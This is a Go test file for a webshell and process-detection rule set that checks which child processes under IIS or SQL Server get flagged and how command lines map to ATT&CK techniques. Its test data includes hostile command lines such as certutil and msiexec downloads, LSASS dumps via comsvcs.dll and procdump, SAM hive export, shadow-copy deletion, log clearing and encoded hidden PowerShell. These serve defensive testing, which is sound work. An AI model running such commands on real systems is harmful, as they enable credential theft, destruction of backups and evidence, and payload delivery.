package rules_test

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"webshellscan/rules"
	"webshellscan/rules/builtin"
)

// child is a row of testdata/children.tsv: a program or folder that a rule
// knows, and where it is public that it is one.
type child struct{ rule, search, value, source string }

func readChildren(t *testing.T) []child {
	t.Helper()
	data, err := os.ReadFile("testdata/children.tsv")
	if err != nil {
		t.Fatal(err)
	}
	var list []child
	for line := range strings.Lines(strings.ReplaceAll(string(data), "\r\n", "\n")) {
		if strings.HasPrefix(line, "#") {
			continue
		}
		cells := strings.Split(strings.TrimSpace(line), "\t")
		if len(cells) != 4 || !strings.HasPrefix(cells[3], "https://") {
			t.Fatalf("%q: no row with a source", line)
		}
		list = append(list, child{cells[0], cells[1], cells[2], cells[3]})
	}
	if len(list) == 0 {
		t.Fatal("no rows")
	}
	return list
}

// first returns the first text of a search, "" if there is none such.
func first(r *rules.Rule, search string) string {
	detection := r.Detection
	if r.Filter != nil {
		detection = r.Filter.Detection
	}
	for _, s := range detection.Searches {
		if s.Name == search {
			return s.Groups[0].Items[0].Values[0].Text
		}
	}
	return ""
}

// event returns a process that the row is about, below a server.
func (c *child) event(r *rules.Rule) event {
	role, product := "web", "IIS"
	if strings.HasPrefix(c.rule, "other_server") {
		role, product = "other", "SQL Server"
	}
	if c.rule == "other_server_agent_program" {
		product = "ScreenConnect"
	}
	if p := first(r, "server"); p != "" {
		product = p
	}
	depth, name, path := "2", c.value, `C:\Program Files\x\`+c.value
	switch {
	case strings.HasPrefix(c.value, ":"):
		name, path = "x.exe", "C"+strings.TrimSuffix(c.value, `\`)+`\x.exe`
	case strings.HasPrefix(c.value, `\`):
		name, path = "x.exe", `D:\x`+c.value+`x.exe`
	}
	if strings.HasPrefix(c.search, "filter_") {
		depth = "1"
		if strings.HasSuffix(c.rule, "writable_folder") && name != "x.exe" {
			path = `C:\ProgramData\` + name
		}
	}
	ev := e("WorkerRole", role, "WorkerProduct", product, "Depth", depth, "Image", path, "ImageName", name, "CommandLine", `x C:\Windows\Temp\a`)
	if role == "web" {
		ev["WorkerImage"] = []string{`C:\Windows\System32\inetsrv\w3wp.exe`}
	}
	if strings.HasSuffix(c.rule, "renamed_program") && c.search == "program" {
		ev["ImageName"], ev["OriginalFileName"] = []string{"svc.exe"}, []string{c.value}
	}
	return ev
}

// TestChildren: each program and folder of a rule is found by it, and what is
// known or left out is not.
func TestChildren(t *testing.T) {
	_, findings := builtinSets(t)
	byName := make(map[string]*rules.Rule)
	list, err := builtin.Rules()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range list {
		byName[r.Name] = r
	}
	for _, c := range readChildren(t) {
		r := byName[c.rule]
		if r == nil {
			t.Fatalf("no rule %s", c.rule)
		}
		ev := c.event(r)
		got := names(findings, ev)
		if r.Filter != nil {
			unknown := []string{"web_server_descendant_unknown_program", "other_server_unknown_program"}
			if slices.ContainsFunc(got, func(name string) bool { return slices.Contains(unknown, name) }) {
				t.Errorf("%s: %s is known, but found under %v", c.rule, c.value, got)
			}
			ev["ImageName"], ev["Image"] = []string{"novel.exe"}, []string{`C:\Program Files\x\novel.exe`}
			if got := names(findings, ev); !slices.Contains(got, unknown[0]) {
				t.Errorf("%s: novel.exe is found under %v", c.rule, got)
			}
			continue
		}
		if found := slices.Contains(got, c.rule); found == strings.HasPrefix(c.search, "filter_") {
			t.Errorf("%s: %s of %s: found %v", c.rule, c.value, c.search, found)
		}
	}
}

// TestChildrenHaveSources: every program and folder of a rule about children
// has a row.
func TestChildrenHaveSources(t *testing.T) {
	rows := make(map[[2]string]bool)
	for _, c := range readChildren(t) {
		rows[[2]string{c.rule, c.value}] = true
	}
	seeds := []string{"web_server_descendant_shell", "web_server_descendant_enumeration", "web_server_descendant_tool"}
	list, err := builtin.Rules()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range list {
		detection := r.Detection
		if r.Filter != nil {
			detection = r.Filter.Detection
		}
		if r.Role != "" || slices.Contains(seeds, r.Name) || r.Filter == nil && !strings.Contains(r.Name, "_server_") || detection == nil {
			continue
		}
		for value := range marks(detection) {
			if !rows[[2]string{r.Name, value}] {
				t.Errorf("%s: %s has no row in testdata/children.tsv", r.Name, value)
			}
		}
	}
}

// marks returns the texts about images of a detection.
func marks(detection *rules.Detection) map[string]bool {
	found := make(map[string]bool)
	for _, s := range detection.Searches {
		for _, g := range s.Groups {
			for _, item := range g.Items {
				if item.Field != "Image" && item.Field != "ImageName" || slices.Contains(item.Modifiers, "re") || slices.Contains(item.Modifiers, "fieldref") {
					continue
				}
				for _, v := range item.Values {
					found[v.Text] = true
				}
			}
		}
	}
	return found
}

// TestBuiltinChildren: children at the borders of what rules about them say.
func TestBuiltinChildren(t *testing.T) {
	_, findings := builtinSets(t)
	web := func(pairs ...string) event {
		ev := e(append([]string{"WorkerRole", "web", "WorkerProduct", "IIS", "Depth", "2"}, pairs...)...)
		for _, image := range ev["Image"] {
			ev["ImageName"] = []string{image[strings.LastIndexByte(image, '\\')+1:]}
		}
		return ev
	}
	const p = "web_server_descendant_"
	for _, test := range []struct {
		what string
		ev   event
		want []string
	}{
		{"CodeDom by direct arguments (CVE-2023-34362)", web("Image", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, "CommandLine", `csc.exe /out:"C:\Windows\temp\a.dll" "C:\Windows\temp\a.0.cs"`), []string{p + "compiler"}},
		{"ASP.NET compiles", web("Image", `C:\Windows\Microsoft.NET\csc.exe`, "CommandLine", `csc.exe /noconfig @"C:\Windows\Temp\x.cmdline"`), []string{}},
		{"root of a drive (phpStudy)", web("Image", `C:\15.exe`), []string{p + "unknown_program", p + "writable_folder"}},
		{"folder of Windows (JenkinsMiner)", web("Image", `C:\Windows\minerxmr.exe`), []string{p + "unknown_program", p + "writable_folder"}},
		{"program of Windows", web("Image", `C:\Windows\splwow64.exe`), []string{p + "unknown_program"}},
		{"console that hides", web("Image", `C:\Windows\System32\conhost.exe`, "CommandLine", `conhost.exe --headless D:\app\a.exe`), []string{p + "loader"}},
		{"console of a terminal", web("Image", `C:\Windows\System32\conhost.exe`, "CommandLine", `conhost.exe --headless --width 80 --height 30 --signal 0xa1 --server 0xb2`), []string{}},
		{"console that is none", web("Image", `C:\Windows\System32\conhost\conhost.exe`, "SeenBelow", "9"), []string{p + "misplaced_program"}},
		{"console in a folder of programs to come", web("Image", `C:\ProgramData\conhost.exe`), []string{p + "misplaced_program", p + "unknown_program", p + "writable_folder"}},
		{"console as 4688 and native paths have it", web("Image", `\Device\HarddiskVolume3\Windows\System32\conhost.exe`), []string{}},
		{"provider of WMI", web("Image", `C:\Windows\System32\wbem\WmiPrvSE.exe`, "SeenBelow", "3"), []string{}},
		{"root of a share", web("Image", `\\10.0.0.5\c$\a.exe`), []string{p + "unknown_program", p + "writable_folder"}},
		{"not the root", web("Image", `D:\app\a.exe`), []string{p + "unknown_program"}},
		{"a folder only like one", web("Image", `D:\mytemp\a.exe`), []string{p + "unknown_program"}},
		{"common below servers of the kind", web("Image", `D:\app\a.exe`, "SeenBelow", "3"), []string{}},
		{"below two others", web("Image", `D:\app\a.exe`, "SeenBelow", "2"), []string{p + "unknown_program"}},
		{"Chocolatey", web("Image", `C:\ProgramData\chocolatey\bin\a.exe`), []string{p + "unknown_program"}},
		{"between", web("Image", `D:\app\a.exe`, "FindingBelow", "true"), []string{p + "between", p + "unknown_program"}},
		{"a known child between", web("Image", `C:\php\php-cgi.exe`, "FindingBelow", "true"), []string{}},
		{"CGI", web("Image", `C:\Perl64\bin\perl.exe`, "Depth", "1"), []string{}},
		{"Perl from a shell", web("Image", `C:\Perl64\bin\perl.exe`), []string{p + "interpreter"}},
		{"a worker of its own kind", web("Image", `C:\a\python.exe`, "ParentImage", `C:\a\python.exe`), []string{}},
		{"renamed", web("Image", `C:\x\svc.exe`, "OriginalFileName", "Cmd.Exe"), []string{p + "renamed_program", p + "unknown_program"}},
		{"renamed to what ends alike", web("Image", `C:\x\mynet.exe`, "OriginalFileName", "net.exe"), []string{p + "renamed_program", p + "unknown_program"}},
		{"not renamed, in other case", web("Image", `D:\app\NETSTAT.EXE`, "OriginalFileName", "netstat.exe"), []string{}},
		{"pwsh", web("Image", `C:\Program Files\PowerShell\7\pwsh.exe`, "OriginalFileName", "pwsh.dll"), []string{}},
		{"a pool becomes SYSTEM", web("Image", `C:\Windows\notepad.exe`, "Elevation", "user", "LogonId", "0x3e7"), []string{p + "account_jump"}},
		{"a pool becomes a user", web("Image", `C:\Windows\notepad.exe`, "Elevation", "user", "LogonId", "0x51a2"), []string{p + "other_user"}},
		{"more rights of the same user", web("Image", `C:\Windows\notepad.exe`, "Elevation", "integrity", "LogonId", "0x3e7"), []string{}},
		{"a pool elsewhere becomes SYSTEM", e("ParentUser", `IIS APPPOOL\shop`, "Elevation", "user", "LogonId", "0x3e7"), []string{p + "account_jump"}},
		{"a user elsewhere becomes SYSTEM", e("ParentUser", `CORP\anna`, "Elevation", "user", "LogonId", "0x3e7"), []string{}},
		{"xp_cmdshell", e("WorkerRole", "other", "WorkerProduct", "SQL Server", "ImageName", "cmd.exe", "Image", `C:\Windows\System32\cmd.exe`, "CommandLine", "cmd /c whoami"), []string{"other_server_shell"}},
		{"DATEV, as in the public rule", e("WorkerRole", "other", "WorkerProduct", "SQL Server", "ImageName", "cmd.exe", "ParentImage", `C:\Program Files\Microsoft SQL Server\MSSQL10_50.DATEV_DBENGINE\MSSQL\Binn\sqlservr.exe`, "CommandLine", `"C:\Windows\system32\cmd.exe" /c x`), []string{}},
		{"a job", e("WorkerRole", "other", "WorkerProduct", "SQL Server Agent", "ImageName", "cmd.exe"), []string{"other_server_agent_program"}},
		{"an agent of no known name", e("WorkerRole", "other", "WorkerProduct", "Some agent", "ImageName", "cmd.exe"), []string{"other_server_agent_program"}},
		{"another database", e("WorkerRole", "other", "WorkerProduct", "PostgreSQL", "ImageName", "cmd.exe"), []string{"other_server_shell"}},
		{"below no server", e("Image", `C:\Users\Public\a.exe`, "ImageName", "a.exe"), []string{}},
	} {
		if diff := cmp.Diff(test.want, names(findings, test.ev)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", test.what, diff)
		}
	}
}

// TestBuiltinTechniques: one program or behaviour has one mapping.
func TestBuiltinTechniques(t *testing.T) {
	list, err := builtin.Rules()
	if err != nil {
		t.Fatal(err)
	}
	techniques, _ := splitTechniques(list)
	set := mustCompile(t, techniques, rules.Options{})
	for _, test := range []struct{ program, command, want string }{
		{"makecab.exe", "makecab /?", ""},
		{"makecab.exe", "makecab /v1 a b", "T1560.001"},
		{"msbuild.exe", `"C:\Program Files\MSBuild\msbuild.exe" /version`, ""},
		{"msbuild.exe", `C:\Program Files\MSBuild\msbuild.exe -help `, ""},
		{"msbuild.exe", "msbuild a.csproj", "T1127.001"},
		{"msbuild.exe", "msbuild a.csproj /version", "T1127.001"},
		{"regsvr32.exe", "regsvr32 /?", ""},
		{"regsvr32.exe", "regsvr32 /s a.dll", "T1218.010"},
		{"whoami.exe", "whoami /?", ""},
		{"tasklist.exe", "tasklist /v", "T1057"},
		{"python.exe", "python -V", ""},
		{"python.exe", "python", "T1059.006"},
		{"node.exe", "node --version", ""},
		{"powershell.exe", "powershell -version", "T1059.001"},
		{"whoami.exe", "whoami /priv", "T1033"},
		{"net.exe", "net user", "T1087.001"},
		{"net1.exe", `C:\Windows\system32\net1 user /domain`, "T1087.002"},
		{"net.exe", "net user a P@ss /add", "T1136.001"},
		{"net.exe", "net user a P@ss /add /domain", "T1136.002"},
		{"net.exe", "net localgroup administrators", "T1069.001"},
		{"net.exe", `net group "Domain Admins" /domain`, "T1069.002"},
		{"net.exe", "net localgroup administrators a /add", "T1098.007"},
		{"net.exe", `net use \\10.0.0.5\c$`, "T1021.002"},
		{"net.exe", "net use", "T1049"},
		{"net.exe", "net start", "T1007"},
		{"net.exe", "net start w3svc", ""},
		{"certutil.exe", "certutil -urlcache -split -f http://a/b c", "T1105"},
		{"certutil.exe", "certutil -decode a b", "T1140"},
		{"certutil.exe", "certutil -hashfile a", ""},
		{"tar.exe", "tar -xf a.tar", ""},
		{"tar.exe", "tar -czf a.tar b", "T1560.001"},
		{"7z.exe", "7z a x.zip y", "T1560.001"},
		{"7z.exe", "7z x x.zip", ""},
		{"rundll32.exe", `rundll32 C:\windows\system32\comsvcs.dll MiniDump 624 l.dmp full`, "T1003.001 T1218.011"},
		{"rundll32.exe", "rundll32 a.dll,b", "T1218.011"},
		{"procdump64.exe", "procdump64 -ma lsass.exe a", "T1003.001"},
		{"procdump64.exe", "procdump64 -ma 4711", ""},
		{"cmd.exe", "cmd /c ver", "T1059.003 T1082"},
		{"cmd.exe", "cmd /c server.bat", "T1059.003"},
		{"cmd.exe", `cmd /c cd /d "c:\inetpub"&whoami&echo [S]&cd&echo [E]`, "T1059.003 T1505.003"},
		{"powershell.exe", "powershell -nop -w hidden -enc SQBFAFgA", "T1027.010 T1059.001 T1564.003"},
		{"powershell.exe", "powershell -ExecutionPolicy Bypass -File a.ps1", "T1059.001"},
		{"pwsh.exe", "pwsh -c \"iwr http://a\"", "T1059.001 T1105"},
		{"wevtutil.exe", "wevtutil cl Security", "T1070.001"},
		{"reg.exe", `reg query HKLM\SOFTWARE`, "T1012"},
		{"reg.exe", `reg save HKLM\SAM C:\a`, "T1003.002"},
		{"nltest.exe", "nltest /dclist:corp", "T1018"},
		{"nltest.exe", "nltest /domain_trusts", "T1482"},
		{"vssadmin.exe", "vssadmin delete shadows /all", "T1490"},
		{"vssadmin.exe", "vssadmin create shadow /for=C:", "T1003.003"},
		{"schtasks.exe", "schtasks /query", ""},
		{"schtasks.exe", "schtasks /create /tn a /tr b", "T1053.005"},
		{"msiexec.exe", "msiexec /q /i http://a/b.png", "T1105 T1218.007"},
		{"msiexec.exe", `msiexec /i \\198.51.100.7\s\b.msi /qn`, "T1105 T1218.007"},
		{"msiexec.exe", `msiexec /i C:\app\setup.msi /qn`, "T1218.007"},
		{"cscript.exe", `cscript C:\a.vbs`, "T1059.005"},
		{"csc.exe", `csc @"C:\Windows\Microsoft.NET\Temporary ASP.NET Files\a.cmdline"`, ""},
		{"conhost.exe", "conhost.exe 0xffffffff -ForceV1", ""},
	} {
		ev := e("ImageName", test.program, "CommandLine", test.command)
		var got []string
		for _, i := range set.NewMatcher().Match(nil, newSubject(set, newTexts(), ev)) {
			for _, tag := range set.Rules()[i].Tags {
				if id, ok := strings.CutPrefix(tag, "attack."); ok {
					got = append(got, strings.ToUpper(id))
				}
			}
		}
		slices.Sort(got)
		if diff := cmp.Diff(test.want, strings.Join(got, " ")); diff != "" {
			t.Errorf("%s (-want +got):\n%s", test.command, diff)
		}
	}
}
